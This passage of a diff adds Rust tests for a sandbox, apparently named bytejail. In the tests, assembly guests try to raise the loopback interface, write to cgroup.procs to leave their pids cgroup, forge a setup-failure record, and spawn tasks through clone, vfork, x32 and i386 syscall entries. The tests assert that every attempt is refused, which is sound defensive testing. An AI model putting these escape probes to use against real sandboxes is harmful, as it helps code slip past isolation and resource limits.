+         {addr}"
+    ));
+    let mut options = profile_options();
+    options.limits.timeout = Duration::from_millis(1500);
+    let job = std::thread::spawn(move || bytejail::run(&listener, b"", &options).unwrap());
+    std::thread::sleep(Duration::from_millis(400));
+    let report = bytejail::run(&connector, b"", &profile_options()).unwrap();
+    let listened = job.join().unwrap();
+    assert_eq!(listened.outcome, Outcome::Timeout, "{}", listened.summary());
+    assert_eq!(returned_rax(&report), -(libc::EPERM as i64));
+    // The twin: in one job, bind, listen and connect to itself.
+    let both = gas(&format!(
+        "    mov edi, 1
+             mov esi, 1
+             xor edx, edx
+             mov eax, 41
+             syscall
+             mov r12, rax
+             mov rdi, r12
+             lea rsi, [rip + addr]
+             mov edx, {addr_len}
+             mov eax, 49
+             syscall
+             mov rdi, r12
+             mov esi, 1
+             mov eax, 50
+             syscall
+             mov edi, 1
+             mov esi, 1
+             xor edx, edx
+             mov eax, 41
+             syscall
+             mov rdi, rax
+             lea rsi, [rip + addr]
+             mov edx, {addr_len}
+             mov eax, 42
+             syscall
+             ret
+         {addr}"
+    ));
+    let report = bytejail::run(&both, b"", &profile_options()).unwrap();
+    assert_eq!(returned_rax(&report), 0, "{}", report.summary());
+}
+
+/// The shared network namespace's loopback is down and stays so: bringing it up needs
+/// CAP_NET_ADMIN over that namespace (EPERM). The twin: SIOCGIFFLAGS reads `lo`'s flags
+/// (the interface exists, IFF_UP clear).
+#[test]
+fn a_profile_guest_cannot_bring_up_loopback() {
+    let ioctl = |request: u32, flags: u32| {
+        gas(&format!(
+            "    mov edi, 2
+                 mov esi, 2
+                 xor edx, edx
+                 mov eax, 41
+                 syscall
+                 test rax, rax
+                 js 9f
+                 sub rsp, 48
+                 mov qword ptr [rsp], 0x6f6c
+                 mov qword ptr [rsp + 8], 0
+                 mov qword ptr [rsp + 16], {flags}
+                 mov qword ptr [rsp + 24], 0
+                 mov rdi, rax
+                 mov esi, {request}
+                 mov rdx, rsp
+                 mov eax, 16
+                 syscall
+                 test rax, rax
+                 jnz 8f
+                 movzx eax, word ptr [rsp + 16]
+                 or rax, 0x10000
+             8:  add rsp, 48
+             9:  ret"
+        ))
+    };
+    // SIOCGIFFLAGS: 0x10000 marks success, the low bits are the flags.
+    let got = returned_rax(&bytejail::run(&ioctl(0x8913, 0), b"", &profile_options()).unwrap());
+    assert!(got & 0x10000 != 0, "SIOCGIFFLAGS failed: {got}");
+    assert_eq!(got & libc::IFF_UP as i64, 0, "lo is up: flags {got:x}");
+    // SIOCSIFFLAGS with IFF_UP | IFF_RUNNING.
+    let set = ioctl(0x8914, (libc::IFF_UP | libc::IFF_RUNNING) as u32);
+    let report = bytejail::run(&set, b"", &profile_options()).unwrap();
+    assert_eq!(returned_rax(&report), -(libc::EPERM as i64));
+}
+
+/// A job with a pids cgroup cannot move itself out: its `cgroup.procs` (like every file) is
+/// closed to it by Landlock (EACCES), so it cannot escape `pids.max`.
+#[test]
+fn a_job_cannot_leave_its_pids_cgroup() {
+    if !namespaces() || landlock_abi() == 0 {
+        eprintln!("no PID namespace or no Landlock; skipping");
+        return;
+    }
+    for path in [
+        "/sys/fs/cgroup/pids/cgroup.procs",
+        "/sys/fs/cgroup/cgroup.procs",
+        "/sys/fs/cgroup/unified/cgroup.procs",
+    ] {
+        if !std::path::Path::new(path).exists() {
+            continue;
+        }
+        // open(path, O_WRONLY)
+        let code = gas(&format!(
+            "lea rdi, [rip + path]
+             mov esi, 1
+             mov eax, 2
+             syscall
+             ret
+             path: .asciz \"{path}\""
+        ));
+        let mut options = profile_options();
+        options.limits.max_procs = 4;
+        let report = bytejail::run(&code, b"", &options).unwrap();
+        assert_eq!(returned_rax(&report), -(libc::EACCES as i64), "{path}");
+    }
+}
+
+/// A guest that writes the record of a setup failure and exits 127 (as the worker does when
+/// its setup fails in a PID namespace) is reported as exiting 127, not as a runner error: the
+/// host asks the kernel whether it entered seccomp.
+#[test]
+fn a_forged_setup_failure_is_the_guests_exit() {
+    if !namespaces() {
+        eprintln!("not root: no PID namespace for workers; skipping");
+        return;
+    }
+    // REC_STATE (data page + 0x100) = 3 (setup failed), REC_STAGE = 0, REC_ERRNO = EPERM.
+    let code = gas("mov rbx, [rsp]
+                    and rbx, -4096
+                    mov qword ptr [rbx + 0x1190], 0
+                    mov qword ptr [rbx + 0x1198], 1
+                    mov qword ptr [rbx + 0x1100], 3
+                    mov edi, 127
+                    mov eax, 60
+                    syscall");
+    let report = bytejail::run(&code, b"", &profile_options());
+    let report = report.expect("a guest's exit became a runner error");
+    assert_eq!(report.outcome, Outcome::Exited(127), "{}", report.summary());
+}
+
+/// With `--max-procs 1` no thread or process is made through any entry: clone with
+/// CLONE_THREAD, vfork, the x32 numbers of clone and clone3, and clone3 with an odd size all
+/// fail with EAGAIN (the stacked filter answers before the kernel looks at the arguments).
+#[test]
+fn no_task_is_made_through_any_entry_under_max_procs_1() {
+    let options = RunOptions {
+        policy: allow_all_arches(),
+        ..RunOptions::default()
+    };
+    let eagain = -(libc::EAGAIN as i64);
+    // clone(CLONE_VM|CLONE_FS|CLONE_FILES|CLONE_SIGHAND|CLONE_THREAD|CLONE_SYSVSEM, stack)
+    let flags = libc::CLONE_VM
+        | libc::CLONE_FS
+        | libc::CLONE_FILES
+        | libc::CLONE_SIGHAND
+        | libc::CLONE_THREAD
+        | libc::CLONE_SYSVSEM;
+    let cases = [
+        (
+            "clone(CLONE_THREAD)",
+            format!("mov edi, {flags}\nlea rsi, [rsp - 4096]\nxor edx, edx\nxor r10d, r10d\nxor r8d, r8d\nmov eax, 56\nsyscall\nret"),
+        ),
+        ("vfork", "mov eax, 58\nsyscall\nret".to_string()),
+        (
+            "x32 clone",
+            "mov edi, 17\nxor esi, esi\nxor edx, edx\nxor r10d, r10d\nxor r8d, r8d\nmov eax, 0x40000038\nsyscall\nret".to_string(),
+        ),
+        (
+            "x32 clone3",
+            "xor edi, edi\nxor esi, esi\nmov eax, 0x400001b3\nsyscall\nret".to_string(),
+        ),
+        (
+            "clone3 with an odd size",
+            "sub rsp, 128\nmov rdi, rsp\nxor eax, eax\nmov ecx, 128\nrep stosb\nmov rdi, rsp\nmov esi, 89\nmov eax, 435\nsyscall\nadd rsp, 128\nret".to_string(),
+        ),
+        (
+            "i386 clone",
+            "mov ebx, 17\nxor ecx, ecx\nxor edx, edx\nxor esi, esi\nxor edi, edi\nmov eax, 120\nint 0x80\nmovsxd rax, eax\nret".to_string(),
+        ),
+    ];
+    for (what, source) in cases {
+        let report = bytejail::run(&gas(&source), b"", &options).unwrap();
+        assert_eq!(returned_rax(&report), eagain, "{what}: {}", report.summary());
+    }
+}
